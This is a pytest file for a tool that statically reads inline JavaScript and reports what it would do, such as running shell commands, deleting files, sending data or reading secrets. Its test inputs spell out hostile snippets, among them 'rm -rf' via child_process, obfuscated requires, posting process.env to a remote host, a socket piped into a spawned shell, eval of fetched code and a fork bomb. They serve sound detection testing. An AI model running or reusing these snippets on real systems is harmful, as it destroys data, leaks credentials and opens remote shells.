"""JavaScript is followed far enough to say what it does, and no further."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handrail.model.effect import Kind
from handrail.model.ordinal import Severity
from handrail.shell.inline.javascript import read


def effects(code: str) -> list[tuple[Kind, str]]:
    return [(effect.kind, effect.target) for effect in read(code).effects]


@pytest.mark.parametrize(
    ("code", "scripts"),
    [
        ("require('child_process').execSync('rm -rf /etc')", ("rm -rf /etc",)),
        ("require('child'+'_process')['ex'+'ecSync']('rm x')", ("rm x",)),
        ("const {execSync: e} = require('child_process'); e(`rm -rf ${dir}`)", ("rm -rf \ufffc",)),
        (
            "const d='/etc'; const c = \"rm \" + d; require('node:child_process').exec(c, e => {})",
            ("rm /etc",),
        ),
        ("import { exec as e } from 'child_process'; e('id')", ("id",)),
        ("import * as cp from 'node:child_process'; cp.exec('id')", ("id",)),
        ("const cp = await import('child_process'); cp.exec('id')", ("id",)),
        ("import('child_process').then(c => c.exec('id'))", ("id",)),
        ("new Function(\"require('child_process').exec('id')\")()", ("id",)),
        ("process.mainModule.require('child_process').execSync('id')", ("id",)),
        ("globalThis.process.mainModule.require('child_process').execSync('id')", ("id",)),
        ("require('child_process').exec('ls', {cwd: '/tmp'})", ("cd /tmp && ls",)),
        ("require('child_process').spawn('rm', ['-rf', 'x'], {shell: true})", ("rm -rf x",)),
        ("await $`rm -rf ${x}`", ("rm -rf \ufffc",)),
    ],
)
def test_command_lines_that_go_to_a_shell_are_found(code: str, scripts: tuple[str, ...]) -> None:
    assert read(code).scripts == scripts


@pytest.mark.parametrize(
    ("code", "argv"),
    [
        ("require('child_process').spawn('rm', ['-rf', '/'])", ("rm", "-rf", "/")),
        ("new Deno.Command('rm', {args: ['-rf', '/']})", ("rm", "-rf", "/")),
    ],
)
def test_a_program_that_is_started_without_a_shell_is_found(
    code: str, argv: tuple[str, ...]
) -> None:
    assert read(code).calls == (argv,)


@pytest.mark.parametrize(
    ("code", "kind", "target"),
    [
        ("require('fs').unlinkSync('a')", Kind.DELETE, "a"),
        ("import fs from 'fs'; for (const f of ['/a','/b']) fs.unlinkSync(f)", Kind.DELETE, "/b"),
        ("['/a','/b'].forEach(f => require('fs').unlinkSync(f))", Kind.DELETE, "/b"),
        ("require('fs').promises.rm('/a')", Kind.DELETE, "/a"),
        (
            "require('fs/promises').rm(require('path').join(__dirname, 'x'))",
            Kind.DELETE,
            "\ufffc/x",
        ),
        ("require('rimraf').sync('/a')", Kind.DELETE, "/a"),
        ("Deno.removeSync('/a')", Kind.DELETE, "/a"),
        ("let p='/a'; if (x) { p='/b' } require('fs').rmSync(p)", Kind.DELETE, "/a"),
        ("require('fs').writeFileSync('a', 'x')", Kind.WRITE, "a"),
        ("require('fs').readFileSync(process.env.HOME+'/.npmrc')", Kind.READ, "~/.npmrc"),
        ("require('fs').symlinkSync('/etc/passwd', 'x')", Kind.LINK, "/etc/passwd"),
        ("fetch('http://a.b')", Kind.FETCH, "http://a.b"),
        ("fetch('http://a.b', {method: 'POST', body: x})", Kind.SEND, "http://a.b"),
        ("require('axios').post('http://a.b', x)", Kind.SEND, "http://a.b"),
        (
            "const r=require('https').request({hostname:'a.b',method:'POST'}); r.write(x)",
            Kind.SEND,
            "a.b",
        ),
        ("require('net').connect(80, 'a.b')", Kind.REACH, "a.b:80"),
        (
            "const openai=require('openai'); openai.createCompletion({prompt: x})",
            Kind.SEND,
            "api.openai.com",
        ),
        ("require('pg').Pool().query('DROP TABLE users')", Kind.DESTROY, "DROP TABLE users"),
        ("process.kill(-1, 'SIGKILL')", Kind.KILL, "every process"),
        ("console.log(process.env.OPENAI_API_KEY)", Kind.SECRET, "OPENAI_API_KEY"),
        ("process.setuid(0)", Kind.PRIVILEGE, "process.setuid(0)"),
    ],
)
def test_an_effect_is_found_with_its_target(code: str, kind: Kind, target: str) -> None:
    assert (kind, target) in effects(code)


@pytest.mark.parametrize(
    "code",
    [
        "eval(Buffer.from('Y29uc29sZQ==','base64').toString())",
        "eval(atob('YQ=='))",
        "eval(String.fromCharCode(97,98))",
        "fetch('http://x').then(r => r.text()).then(eval)",
        "fetch('http://x').then(r => r.text()).then(t => eval(t))",
        "require('https').get('http://x', r => r.on('data', d => eval(d)))",
    ],
)
def test_what_nobody_can_see_before_it_runs_is_unseen(code: str) -> None:
    assert Kind.UNSEEN in {effect.kind for effect in read(code).effects}


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        (
            "require('net').connect(1,'a',function(){this.pipe(require('child_process').spawn('sh').stdin)})",
            Kind.UNSEEN,
        ),
        ("fetch('http://x',{method:'POST',body:JSON.stringify(process.env)})", Kind.SEND),
        ("while(true) require('child_process').fork(__filename)", Kind.EXHAUST),
    ],
)
def test_the_worst_is_critical(code: str, kind: Kind) -> None:
    assert (kind, Severity.CRITICAL) in {(e.kind, e.severity) for e in read(code).effects}


@pytest.mark.parametrize(
    "code",
    [
        "console.log('git push --force')",
        "'rm -rf /'.split(' ').length",
        "console.log(process.env.PATH, process.env['NODE_ENV'])",
        "// require('child_process').execSync('rm -rf /')",
        "console.log(\"require('child_process').execSync('rm -rf /')\")",
        "const x = /require\\('fs'\\).rmSync('x')/.test(s); const y = a / b / c",
        "const p = require('./package.json'); console.log(p.version)",
        "/* fs.rmSync('/') */ console.log(process.version, process.argv[1])",
        "const m = /(\\d+)/.exec(s); console.log(m[1])",
        "const f = require('fs'); f.writeFileSync('b.json', f.readFileSync('a.json'))",
    ],
)
def test_ordinary_code_and_words_in_texts_and_comments_do_nothing(code: str) -> None:
    result = read(code)
    assert {effect.kind for effect in result.effects} <= {Kind.READ, Kind.WRITE, Kind.RUN}
    assert not result.scripts
    assert not result.calls


@given(st.text())
def test_no_text_makes_it_raise(text: str) -> None:
    read(text)


@pytest.mark.parametrize(
    "piece", [*"([{'\"`/\\-#<$%@;|&=.", "${", "#{", "--[[", "/*", "<<A\n", "s/[", "a.b("]
)
def test_deep_or_endless_code_is_read_in_time(piece: str) -> None:
    read("system eval os open require(" + piece * 20_000)
